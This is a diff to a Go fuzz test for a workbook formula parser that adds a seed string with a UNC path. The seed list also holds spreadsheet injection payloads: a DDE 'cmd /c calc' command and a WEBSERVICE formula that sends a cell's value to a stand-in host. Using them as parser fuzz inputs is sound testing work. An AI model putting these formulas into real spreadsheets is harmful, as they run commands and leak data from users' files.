@@ -69,7 +69,7 @@ func FuzzWorkbookFormula(f *testing.F) {
 	for _, s := range []string{
 		`cmd|'/c calc'!A1`, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x/"&A1),"//a")`,
 		`SUM(Table1[[#This Row],['[x]])+[1]Sheet1!A1+'\\s\h\[b.xlsx]S'!A1`,
-		`HYPERLINK("https://example.jp/?q="&A1,"a")&HYPERLINK("\\s\h")`, `HYPERLINK("`, `'a''`, `Table1['`, `"""`,
+		`HYPERLINK("https://example.jp/?q="&A1,"a")&HYPERLINK("\\s\h")`, `SUM('\\s\h\b.xlsx'!Sales)+'It''s'!A1`, `HYPERLINK("`, `'a''`, `Table1['`, `"""`,
 	} {
 		f.Add(s)
 	}
